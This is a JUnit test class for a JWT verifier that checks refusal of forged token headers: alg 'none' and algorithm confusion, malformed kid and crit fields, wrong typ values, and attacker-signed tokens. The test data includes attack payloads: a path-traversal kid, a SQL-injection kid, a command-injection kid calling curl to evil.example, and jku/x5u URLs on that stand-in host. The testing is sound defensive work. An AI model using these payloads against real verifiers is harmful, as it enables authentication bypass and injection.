package dev.genstore.auth;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What a token's header can claim and demand (RFC 8725, 2.1, 3.1, 3.2, 3.10 and 3.11). */
class HeaderAttacksTest {
    private final TokenRig rig = new TokenRig();

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            none with a signature     | {"alg":"none"}                          | signed
            nOnE with a signature     | {"alg":"nOnE"}                          | signed
            no alg                    | {"kid":"rsa"}                           | signed
            alg null                  | {"alg":null}                            | signed
            alg a number              | {"alg":256}                             | signed
            alg a list                | {"alg":["RS256"]}                       | signed
            alg in small letters      | {"alg":"rs256"}                         | signed
            alg with a space          | {"alg":"RS256 "}                        | signed
            another algorithm         | {"alg":"PS256"}                         | signed
            another kind of key       | {"alg":"ES256"}                         | signed
            an unknown algorithm      | {"alg":"ES256K"}                        | signed
            a secret's algorithm      | {"alg":"HS256"}                         | signed
            a kid that is empty       | {"alg":"RS256","kid":""}                | signed
            a kid that is a number    | {"alg":"RS256","kid":1}                 | malformed
            a kid that is null        | {"alg":"RS256","kid":null}              | malformed
            a kid that is a list      | {"alg":"RS256","kid":["rsa"]}           | malformed
            crit                      | {"alg":"RS256","crit":["exp"],"exp":1}  | demands
            crit with nothing         | {"alg":"RS256","crit":[]}               | demands
            crit null                 | {"alg":"RS256","crit":null}             | demands
            b64 in crit               | {"alg":"RS256","crit":["b64"],"b64":false} | demands
            b64 alone                 | {"alg":"RS256","b64":false}             | demands
            zip                       | {"alg":"RS256","zip":"DEF"}             | demands
            enc                       | {"alg":"RS256","enc":"A128GCM"}         | demands
            alg twice                 | {"alg":"none","alg":"RS256"}            | malformed
            a list                    | ["RS256"]                               | malformed
            no JSON                   | alg=RS256                               | malformed
            more behind it            | {"alg":"RS256"}{}                       | malformed
            a comment                 | {"alg":"RS256"/**/}                     | malformed
            """)
    void what_the_issuer_has_signed_is_refused_with_a_header_of(
            String what, String header, String told) {
        Refusal.require(rig, rig.headed(header), told);
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            a logout                  | "logout+jwt"
            a proof                   | "dpop+jwt"
            an event                  | "secevent+jwt"
            nothing                   | ""
            a number                  | 1
            null                      | null
            a list                    | ["JWT"]
            """)
    void what_is_for_something_else_is_refused_by_its_type(String what, String type) {
        Refusal.require(rig, rig.headed("{\"alg\":\"RS256\",\"typ\":" + type + "}"), "type");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            the name of the right key | {"alg":"RS256","kid":"rsa"}
            no name                   | {"alg":"RS256"}
            an unknown name           | {"alg":"RS256","kid":"x"}
            a name that is a path     | {"alg":"RS256","kid":"../../../../dev/null"}
            a name that is SQL        | {"alg":"RS256","kid":"x' UNION SELECT 'key' --"}
            a name that is a command  | {"alg":"RS256","kid":";curl https://evil.example/keys"}
            a name that is a URL      | {"alg":"RS256","kid":"https://evil.example/keys"}
            a URL of keys             | {"alg":"RS256","jku":"https://evil.example/keys"}
            a URL of a certificate    | {"alg":"RS256","x5u":"https://evil.example/keys"}
            a certificate             | {"alg":"RS256","x5c":["MIIB"]}
            a certificate's hash      | {"alg":"RS256","x5t":"AAAA"}
            """)
    void what_an_attacker_has_signed_is_refused_with(String what, String header) {
        Refusal.require(rig, TokenRig.ATTACKER_RSA.sign(header, rig.claims(TokenRig.RS)), "signed");
    }
}
